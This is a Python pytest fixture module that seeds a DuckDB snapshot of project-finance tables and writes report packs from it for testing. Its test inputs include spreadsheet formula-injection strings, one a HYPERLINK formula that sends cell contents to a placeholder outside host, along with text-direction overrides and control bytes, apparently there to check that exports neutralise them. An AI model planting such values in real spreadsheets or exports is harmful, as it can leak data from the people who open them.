"""The site's small snapshot, with what only the packs read added to it, and its packs written once."""

from __future__ import annotations

import sys
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest

sys.path.insert(0, str(Path(__file__).parents[2] / "e2e"))

import fixture_snapshot as fixture

from pipelines.publishing.packs.packs import write_packs

OCTOBER, SEPTEMBER = date(2026, 10, 1), date(2026, 9, 1)
# what a spreadsheet would run, follow or reckon with, and what files and fonts cannot hold
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "http://example.invalid",
    "mailto:a@example.invalid", "00123", "1E5", "{=1}", "internal:Sheet1!A1",
)  # fmt: skip
NAMES = (
    *FORMULAS, "nul\x00bell\x07half\ud7ff", "\u202egnihtemos\u202c شركة שלום", "😀 emoji 漢字", "n" * 300,
    "Ωμέγα Щука Łódź Ærø Ș", '<b>&amp;"</b>', "\ufeff", "&A &P &D",
)  # fmt: skip


@dataclass(frozen=True, kw_only=True)
class Written:
    """A snapshot and the packs made of it."""

    snapshot: Path
    out: Path
    entries: list[dict[str, Any]]

    def sql(self, query: str, *parameters: object) -> list[tuple[Any, ...]]:
        with duckdb.connect(str(self.snapshot), read_only=True) as connection:
            return connection.execute(query, list(parameters)).fetchall()


def _forecasts(connection: duckdb.DuckDBPyConnection) -> None:
    for n, project in enumerate(("P-001", "P-002", "P-004")):
        key = {"project_id": project, "month": OCTOBER, "currency_code": "NOK" if project == "P-004" else "EUR"}
        eac = Decimal(2_000_000 + 1_000 * n) + Decimal("0.37")
        row = {
            **key, "ac_amount": 1_500_000, "recommended_method": "bottom_up", "recommended_eac_amount": eac,
            "eac_p10_amount": eac - 90_000, "eac_p50_amount": eac + 5_000, "eac_p80_amount": eac + 60_000,
            "eac_p90_amount": eac + 110_000, "is_range_calibrated": False, "revenue_at_completion_amount": 2_400_000,
            "margin_at_completion_amount": 2_400_000 - eac, "pending_change_count": n,
            "recommendation_reason": "The forecast in force is taken.",
        }  # fmt: skip
        fixture._insert(connection, "forecast.forecast_by_project_month", [row])
        methods = {"bottom_up": eac, "cpi": eac + 10, "last_6": None}
        rows = [
            {**key, "method": name, "bac_amount": 1_900_000, "eac_amount": value} for name, value in methods.items()
        ]
        fixture._insert(connection, "forecast.eac_by_project_month_method", rows)
        for month, done in ((SEPTEMBER, 1_200_000), (OCTOBER, 1_300_000)):
            measured = {**key, "month": month, "bac_amount": 1_900_000, "pv_amount": done + 50_000, "ev_amount": done,
                        "ac_amount": done + 90_000}  # fmt: skip
            fixture._insert(connection, "forecast.earned_value_by_project_month", [measured])
    for n, kind in enumerate(("as_sold", "baseline", "forecast"), start=1):
        version = {
            "project_id": "P-001", "plan_version_id": f"V{n}", "version_number": n, "kind": kind, "source": "finance",
            "approved_date": date(2025, 8 + n, 1), "revenue_amount_base": 3_000_000, "cost_amount_base": 2_000_000 + n,
            "margin_amount_base": 1_000_000 - n, "margin_change_amount_base": None if n == 1 else -1,
            "reason": "Margin fell.",
        }  # fmt: skip
        fixture._insert(connection, "forecast.forecast_versions", [version])
    total = {"programme_id": "PG1", "bac_amount_base": 3_800_000, "pv_amount_base": 2_700_000,
             "ev_amount_base": 2_600_000, "ac_amount_base": 2_780_000, "measured_projects": 2,
             "month": OCTOBER}  # fmt: skip
    fixture._insert(connection, "forecast.earned_value_by_programme_month", [total])


def _plans(connection: duckdb.DuckDBPyConnection) -> None:
    shared = {"project_id": "P-001", "version_kind": "baseline", "plan_version_id": "B2",
              "approved_date": date(2026, 2, 1), "in_force_from_date": date(2026, 2, 1),
              "currency_code": "EUR"}  # fmt: skip
    older = {"plan_version_id": "B1", "in_force_from_date": date(2025, 9, 1), "in_force_to_date": date(2026, 1, 31)}
    for month in (SEPTEMBER, OCTOBER):
        lines = {"revenue": "150000.10", "labour": "90000.05", "material": "1000", "management_reserve": "77777"}
        rows = [{**shared, "month": month, "category": name, "plan_amount_base": text} for name, text in lines.items()]
        fixture._insert(connection, "core.fct_plan_lines", [*rows, {**rows[0], **older, "plan_amount_base": "1"}])
    # a plan without revenue is no plan to compare a margin with
    only_cost = {
        **shared,
        "project_id": "P-002",
        "plan_version_id": "S",
        "version_kind": "as_sold",
        "category": "labour",
    }
    fixture._insert(connection, "core.fct_plan_lines", [{**only_cost, "month": OCTOBER, "plan_amount_base": 5}])


def _registers(connection: duckdb.DuckDBPyConnection) -> None:
    for n, name in enumerate(NAMES):
        risk = {"project_id": "P-001", "risk_id": f"R-{n}", "kind": "threat", "title": name.replace("\x00", ""),
                "status": "open", "probability_pct": "0.25", "cost_likely_amount_base": 1000 + n,
                "emv_amount_base": Decimal(-250) - n}  # fmt: skip
        fixture._insert(connection, "core.fct_risks", [risk])
    changes = (("CR-1", "submitted", "900.50"), ("CR-2", "approved", "-100"), ("CR-3", "draft", None))
    for name, status, price in changes:
        change = {"project_id": "P-001", "change_request_id": name, "title": f"={name}", "status": status,
                  "requested_date": date(2026, 9, 4), "price_amount_base": price, "cost_amount_base": 100}  # fmt: skip
        fixture._insert(connection, "core.fct_change_requests", [change])


def _rest(connection: duckdb.DuckDBPyConnection) -> None:
    fixture._insert(connection, "core.dim_programmes", [{"programme_id": "PG1", "programme_name": fixture.HOSTILE}])
    for project, opening in (("P-001", "2000.25"), ("P-004", "500.75")):
        row = {"project_id": project, "month": OCTOBER, "opening_amount_base": opening, "bookings_amount_base": 100,
               "changes_amount_base": 10, "revenue_amount_base": 300, "fx_amount_base": "-0.50",
               "billed_amount_base": 50, "closing_amount_base": Decimal(opening) - Decimal("190.50")}  # fmt: skip
        fixture._insert(connection, "margin.backlog_by_project_month", [row])
    steps = (("price", 5_000), ("hours", "-120000.45"), ("fx", "-0.55"), ("residual", 0))
    for project in ("P-001", "P-004"):
        for n, (driver, effect) in enumerate(steps, start=1):
            step = {"project_id": project, "from_version": "as_sold", "to_version": "forecast", "step_number": n,
                    "driver": driver, "effect_amount_base": effect, "from_margin_amount_base": 1_115_001,
                    "to_margin_amount_base": 1_000_000}  # fmt: skip
            fixture._insert(connection, "margin.margin_bridge", [step])
    statuses = {"P-001": "red", "P-002": "green", "P-005": "not_rated"}
    for project, status in statuses.items():
        names = ("cost", "scope", "schedule", "quality", "customer", "safety", "overall")
        why = (
            f"Cost performance index 0.81 (earned value -5 / actual cost 100) is {status}: below 0.9; green above 0.95."
        )
        row = {"project_id": project, "month": OCTOBER, **{f"{name}_status": status for name in names},
               **{f"{name}_status_reason": why for name in names}, "gross_margin_amount_base": 12}  # fmt: skip
        fixture._insert(connection, "kpi.scorecard_by_project_month", [row])


def _balances(connection: duckdb.DuckDBPyConnection) -> None:
    balance = {"contract_id": "CT-1", "month": OCTOBER, "project_id": "P-001", "contract_asset_amount_base": 400,
               "receivable_amount_base": 190, "backlog_amount_base": 1375}  # fmt: skip
    fixture._insert(connection, "margin.contract_balances_by_contract_month", [balance])
    owed = (("k1", "C1", "current", 1000), ("k2", "C1", "31-60", 500), ("k3", None, "current", -200))
    for key, customer, bucket, amount in owed:
        item = {"invoice_key": key, "customer_id": customer, "bucket": bucket, "open_amount_base": amount}
        fixture._insert(connection, "margin.receivables_ageing", [{**item, "month": OCTOBER}])
    for bucket, amount, age in (("0-30", 500, 0), ("91-180", 200, 122)):
        aged = {"contract_id": "CT-1", "month": OCTOBER, "bucket": bucket, "project_id": "P-002", "owner": "Manager 1",
                "unbilled_amount_base": amount, "oldest_age_days": age}  # fmt: skip
        fixture._insert(connection, "margin.wip_ageing", [aged])


# what the site's tests have in these tables is theirs: the packs' figures are those of this file
_OWN = (
    "core.dim_programmes", "core.fct_plan_lines", "core.fct_risks", "core.fct_change_requests", "margin.margin_bridge",
    "margin.contract_balances_by_contract_month", "margin.receivables_ageing", "margin.wip_ageing",
    "margin.backlog_by_project_month", "forecast.earned_value_by_project_month",
    "forecast.earned_value_by_programme_month", "forecast.eac_by_project_month_method",
    "forecast.forecast_by_project_month", "forecast.forecast_versions", "kpi.scorecard_by_project_month",
)  # fmt: skip


def make_snapshot(path: Path) -> Path:
    """The site's snapshot: its projects, months, loads and exceptions; the rest is made here."""
    fixture.write_snapshot(path, pages=False)
    with duckdb.connect(str(path)) as connection:
        for table in _OWN:
            connection.execute(f"delete from {table}")
        for fill in (_forecasts, _plans, _registers, _balances, _rest):
            fill(connection)
    return path


def written(folder: Path, snapshot: Path) -> Written:
    return Written(snapshot=snapshot, out=folder / "packs", entries=write_packs(snapshot, folder / "packs"))


@pytest.fixture(scope="session")
def packs(tmp_path_factory: pytest.TempPathFactory) -> Written:
    folder = tmp_path_factory.mktemp("packs")
    return written(folder, make_snapshot(folder / "warehouse.duckdb"))


@pytest.fixture(scope="session")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Written:
    folder = tmp_path_factory.mktemp("empty")
    return written(folder, fixture.write_snapshot(folder / "warehouse.duckdb", empty=True))
